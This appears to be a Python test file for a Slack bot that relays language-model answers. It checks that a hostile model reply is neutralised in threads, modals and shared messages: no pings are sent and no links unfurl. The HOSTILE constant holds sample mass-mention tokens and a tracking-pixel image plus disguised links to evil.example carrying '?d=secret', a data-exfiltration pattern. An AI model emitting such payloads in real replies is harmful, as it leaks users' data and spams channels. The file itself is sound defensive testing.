"""A hostile model's text in a channel."""

from __future__ import annotations

from pathlib import Path

from bot.playground.state.models import SlackMessage
from tests.models.replies import Reply
from tests.slack.modal_walk import choose, reveal
from tests.stage import Stage, on_stage

HOSTILE = (
    "Hello <!channel> <!here> <!everyone> <!subteam^S123> <@U00000003> <#C00000005>\n"
    "![pixel](https://evil.example/p.png?d=secret) [google.com](https://evil.example/?d=secret) "
    "<https://evil.example/a|click> https://evil.example/b www.evil.example\n"
    "@channel @here\n"
)


async def test_a_hostile_reply_pings_nobody_and_unfurls_nothing(tmp_path: Path) -> None:
    """Mentions and links from a model do nothing, while streaming and afterwards."""
    models = {"writer-1": Reply(HOSTILE * 3)}
    async with on_stage(tmp_path, models=models) as stage:
        ts = await stage.ask("What is the risk?")
        shown = stage.slack.render(await stage.replied(ts))
        assert "evil.example" in shown, "the address is still readable"
        assert stage.slack.notifications == []
        assert stage.slack.unfurls == []


async def test_a_hostile_answer_is_inert_in_the_modal_and_when_shared(tmp_path: Path) -> None:
    """The answers modal and a shared private reply are as safe as the thread."""
    models = {name: Reply(HOSTILE) for name in ("red-1", "writer-1")}
    async with on_stage(tmp_path, models=models) as stage:
        ts = await stage.ask("What is the risk?")
        await reveal(stage, stage.ana, await stage.replied(ts))
        assert "evil.example" in await choose(stage, stage.ana, "red")
        await stage.slack.command(stage.ana, stage.general, "/moa", "What is the risk?")
        await stage.slack.wait_for(lambda: len(_private(stage)) == 1)
        await stage.slack.click(stage.ana, _private(stage)[0], "share_answer")
        await stage.slack.wait_for(lambda: len(stage.slack.messages(stage.general)) == 2)
        assert stage.slack.notifications == []
        assert stage.slack.unfurls == []


async def test_an_address_from_the_asker_may_be_a_link(tmp_path: Path) -> None:
    """A host in the asker's own words is shown as an address, not as code."""
    models = {"writer-1": Reply("See https://docs.example.com/page for more.")}
    async with on_stage(tmp_path, models=models) as stage:
        ts = await stage.ask("What does <https://docs.example.com/start> say?")
        shown = stage.slack.render(await stage.replied(ts))
        assert "See https://docs.example.com/page for more." in shown


async def test_hosts_of_the_askers_earlier_messages_count(tmp_path: Path) -> None:
    """Hosts in the asker's earlier messages count, those in other people's do not."""
    said = "See https://docs.example.com/a and https://other.example.com/b for more."
    async with on_stage(tmp_path, models={"writer-1": Reply(said)}) as stage:
        bo = stage.slack.add_user("Bo")
        await stage.slack.invite(bo, stage.general)
        ts = await stage.slack.post(stage.ana, stage.general, "I read <https://docs.example.com/>.")
        await stage.slack.post(bo, stage.general, "<https://other.example.com/>?", thread_ts=ts)
        await stage.ask("What does it say?", thread_ts=ts)
        shown = stage.slack.render(await stage.replied(ts))
        assert "See https://docs.example.com/a and `https://other.example.com/b` for more." in shown


async def test_a_shared_reply_keeps_its_links_and_its_title_has_none(tmp_path: Path) -> None:
    """A shared reply keeps its links; the quoted question has none."""
    said = "See https://docs.example.com/a and https://evil.example/b."
    async with on_stage(tmp_path, models={"writer-1": Reply(said)}) as stage:
        question = "Is https://docs.example.com/x right, and evil.example/y?"
        await stage.slack.command(stage.ana, stage.general, "/moa", question)
        await stage.slack.wait_for(lambda: len(_private(stage)) == 1)
        await stage.slack.click(stage.ana, _private(stage)[0], "share_answer")
        await stage.slack.wait_for(lambda: len(stage.slack.messages(stage.general)) == 1)
        shown = stage.slack.render(stage.slack.messages(stage.general)[0])
        assert "See https://docs.example.com/a and https://evil.example/b." in shown
        assert "Is `https://docs.example.com/x` right, and `evil.example/y`?" in shown


def _private(stage: Stage) -> list[SlackMessage]:
    found = stage.slack.ephemerals(stage.ana, stage.general)
    return [m for m in found if "[Show answers]" in stage.slack.render(m)]
